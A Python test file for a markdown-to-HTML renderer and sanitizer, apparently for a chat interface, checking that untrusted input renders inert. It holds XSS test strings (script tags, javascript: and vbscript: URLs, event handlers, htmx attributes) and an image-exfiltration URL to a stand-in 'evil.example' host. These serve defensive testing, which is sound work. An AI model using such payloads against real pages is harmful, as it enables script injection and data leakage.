"""render_markdown: untrusted markdown in, HTML that cannot run or trigger anything out."""

from __future__ import annotations

from numi.render import render_markdown, sanitize

ALLOWED_ATTRIBUTES = {"href", "title", "class", "start", "rel", "target"}


def test_corpus_is_big_enough(xss):
    assert len(xss.inputs) >= 30 and len(set(xss.inputs)) == len(xss.inputs)


def test_hostile_markdown_renders_inert(hostile, xss):
    html = str(render_markdown(hostile))
    assert html.strip(), "the input vanished: a user should still see what was written"
    assert xss.html_problems(html) == [], html
    from html.parser import HTMLParser

    seen = []

    class Attributes(HTMLParser):
        def handle_starttag(self, tag, attrs):
            seen.extend(name for name, _ in attrs)

    Attributes().feed(html)
    assert set(seen) <= ALLOWED_ATTRIBUTES, html


def test_the_checker_catches_what_it_should(xss):
    """The checks above are only worth something if they fail on dangerous HTML."""
    for bad in ('<script>x</script>', '<a href="javascript:x">a</a>', '<a href=" JAVA\tscript:x">a</a>',
                '<p onclick="x">', '<div hx-get="/x">', '<div data-hx-post="/x">', '<div ws-send>',
                '<p id="chat-list">', '<p style="x">', '<svg>', '<a href="data:text/html,x">a</a>',
                '<a href="vbscript:x">a</a>', '<iframe>', '<form>', '<meta>', '<base>'):
        assert xss.html_problems(bad), bad
    assert xss.html_problems('<a href="https://x.example/a:b">ok</a><a href="/relative">r</a>') == []


def test_commonmark_tables_strikethrough_and_code():
    html = str(render_markdown("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ **new**\n\n```python\ndef f(): pass\n```"))
    assert "<h3>Title</h3>" in html, "model headings sit below the page's own h1 and h2"
    assert "<table>" in html and "<td>1</td>" in html
    assert "<del>old</del>" in html or "<s>old</s>" in html
    assert "<strong>new</strong>" in html
    # Highlighted with CSS classes, never inline styles.
    assert 'class="hl-k"' in html and "style=" not in html


def test_raw_html_is_shown_as_text():
    html = str(render_markdown("Use <b>bold</b> & <script>x()</script>"))
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "&lt;script&gt;" in html and "<b>" not in html


def test_links_are_kept_safe():
    html = str(render_markdown("[docs](https://example.org/docs) and [mail](mailto:a@example.org)"))
    assert 'href="https://example.org/docs"' in html and 'href="mailto:a@example.org"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_images_become_links():
    html = str(render_markdown("![chart](https://evil.example/leak?q=secret)"))
    assert "<img" not in html
    assert 'href="https://evil.example/leak?q=secret"' in html and "[image: chart]" in html


def test_sanitize_is_an_allow_list():
    html = sanitize('<p class="x" data-foo="1" hx-get="/a" onclick="b" id="msg-1">t</p><custom-el>y</custom-el>')
    assert html == "<p>t</p>y"


def test_empty_input():
    assert str(render_markdown("")) == "" and str(render_markdown(None)) == ""


def test_citation_markers_link_to_their_sources():
    from numi.render import render_cited

    sources = [{"n": 1, "title": "Docs", "url": "https://example.org/a"},
               {"n": 2, "title": "Local", "url": "javascript:alert(1)"}]
    html = str(render_cited("Paris is big [1]. Also [2], and `a[1]` or x[1] stay. See [3].", sources))
    assert '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow">[1]</a>' in html
    assert "javascript" not in html, "a source without an http(s) URL is not linked"
    assert "[2]" in html and "[3]" in html
    assert "<code>a[1]</code>" in html and "x[1]" in html
